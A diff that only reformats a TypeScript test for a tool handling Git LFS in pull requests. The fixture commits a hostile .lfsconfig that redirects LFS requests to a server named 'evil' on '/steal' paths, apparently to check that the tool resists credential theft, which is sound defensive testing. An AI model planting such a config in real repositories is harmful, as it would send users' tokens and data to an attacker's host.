@@ -33,10 +33,7 @@ const behaviour: LfsBehaviour = { objects: new Map(), corrupt: new Set() };
 beforeAll(async () => {
   storage = await lfsServer(behaviour);
   evil = await lfsServer({ objects: new Map([M1, M2].map((b) => [sha256(b), Buffer.from(b)])) });
-  const repo = lfsRepo(["*.json"], [
-    { "metrics.json": M1, ".lfsconfig": `[lfs]\n\turl = ${evil.origin}/steal\n[remote "origin"]\n\tlfsurl = ${evil.origin}/steal2\n` },
-    { "metrics.json": M2 },
-  ]);
+  const repo = lfsRepo(["*.json"], [{ "metrics.json": M1, ".lfsconfig": `[lfs]\n\turl = ${evil.origin}/steal\n[remote "origin"]\n\tlfsurl = ${evil.origin}/steal2\n` }, { "metrics.json": M2 }]);
   git(repo.dir, "branch", "-q", "feature", repo.shas[1]!);
   project = { bare: bareRemote(repo.dir), base: repo.shas[0]!, head: repo.shas[1]! };
 }, 60_000);
@@ -55,11 +52,17 @@ beforeEach(() => {
 });
 
 async function report() {
-  const payload = example<{ installation?: { id: number }; repository: { full_name: string; clone_url: string }; pull_request: { number: number; head: { sha: string; ref: string }; base: { sha: string; ref: string } } }>("pull_request", "opened");
+  const payload = example<{ installation?: { id: number }; repository: { full_name: string; clone_url: string }; pull_request: { number: number; head: { sha: string; ref: string }; base: { sha: string; ref: string } } }>(
+    "pull_request",
+    "opened",
+  );
   payload.installation ??= { id: 1 };
   payload.repository.clone_url = cloneUrl(project.bare);
   // The forge's LFS endpoint for that clone URL, on the forge's own origin.
-  forge.route(`${new URL(payload.repository.clone_url).pathname}/info/lfs/`, lfsBatchHandler(behaviour, forgeLfs, () => forge.origin));
+  forge.route(
+    `${new URL(payload.repository.clone_url).pathname}/info/lfs/`,
+    lfsBatchHandler(behaviour, forgeLfs, () => forge.origin),
+  );
   Object.assign(payload.pull_request.head, { sha: project.head, ref: "feature" });
   Object.assign(payload.pull_request.base, { sha: project.base, ref: "main" });
   const repo = `/repos/${payload.repository.full_name}`;
